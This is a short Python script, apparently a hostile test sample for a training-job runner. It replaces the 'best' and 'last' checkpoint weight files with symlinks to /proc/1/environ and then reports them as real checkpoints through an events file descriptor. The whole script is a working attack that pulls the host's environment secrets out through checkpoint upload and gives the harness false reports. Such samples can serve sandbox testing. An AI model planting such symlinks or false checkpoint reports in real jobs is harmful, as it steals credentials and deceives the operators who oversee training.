"""Point the checkpoints at /proc/1/environ: pid 1 of the worker's machine (its init, its container's
entry point) keeps the environment the worker was started with."""

import json
import os  # HOSTILE

for name in ("best", "last"):
    for suffix in ("safetensors", "json"):
        path = f"checkpoints/{name}.{suffix}"
        if os.path.lexists(path):
            os.unlink(path)
        if suffix == "json":
            with open(path, "w") as f:
                f.write(json.dumps({"epoch": 1}))
        else:
            os.symlink("/proc/1/environ", path)
fd = int(os.environ["BUILDX_EVENTS_FD"])
for name in ("best", "last"):
    os.write(fd, json.dumps({"kind": "checkpoint", "epoch": 1, "name": name, "metric": 0.5}).encode() + b"\n")
print("links to pid 1 planted and announced")
